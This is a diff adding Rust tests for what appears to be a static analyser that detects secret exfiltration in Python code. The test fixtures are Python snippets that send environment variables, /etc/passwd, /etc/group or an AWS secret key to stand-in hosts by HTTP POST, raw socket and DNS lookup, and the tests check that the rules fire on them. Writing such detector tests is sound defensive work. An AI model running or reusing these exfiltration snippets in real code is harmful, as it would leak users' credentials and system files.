@@ -147,3 +147,52 @@ fn nested_comprehensions_and_loops_stay_bounded() {
     assert!(assessment.level <= Level::Medium);
     assert!(start.elapsed() < std::time::Duration::from_secs(5));
 }
+
+#[test]
+fn secrets_flow_to_the_calls_that_send_them() {
+    // A secret source reaching a sink that leaves the machine is exfiltration, however
+    // many assignments, containers and helper calls lie between them.
+    fires(
+        "CRD109",
+        "import os, requests\nd = dict(os.environ)\nbody = {'e': d}\nrequests.post('https://x.example', json=body)\n",
+    );
+    fires(
+        "CRD109",
+        "import socket\nraw = open('/etc/group').read()\nb = raw.encode()\ns = socket.socket()\ns.connect(('h', 1))\ns.send(b)\n",
+    );
+    fires(
+        "CRD109",
+        "import os, socket\nt = os.environ['AWS_SECRET_ACCESS_KEY']\nsocket.gethostbyname(t + '.x.example')\n",
+    );
+    fires(
+        "CRD109",
+        "import urllib.request\ndef send(u, f='/etc/passwd'):\n    urllib.request.urlopen(u, data=open(f, 'rb').read())\nsend('http://h')\n",
+    );
+}
+
+#[test]
+fn credentials_used_to_authenticate_are_not_exfiltration() {
+    // A token from the environment in an Authorization header, or non-secret variables
+    // sent out, stay network use.
+    silent(
+        "CRD109",
+        "import os, requests\nt = os.environ['GITHUB_TOKEN']\nrequests.get('https://api', headers={'Authorization': t})\n",
+    );
+    silent(
+        "CRD109",
+        "import os, requests\nrequests.post('https://api', json={'home': os.environ['HOME'], 'who': os.getenv('USER')})\n",
+    );
+}
+
+#[test]
+fn parameter_defaults_are_bound() {
+    // A default value is what the body sees when the call leaves the argument out.
+    fires(
+        "CRD204",
+        "def save(text, path='/etc/motd'):\n    open(path, 'w').write(text)\nsave('hi')\n",
+    );
+    fires(
+        "CRD208",
+        "def show(p='/etc/login.defs'):\n    print(open(p).read())\nshow()\n",
+    );
+}
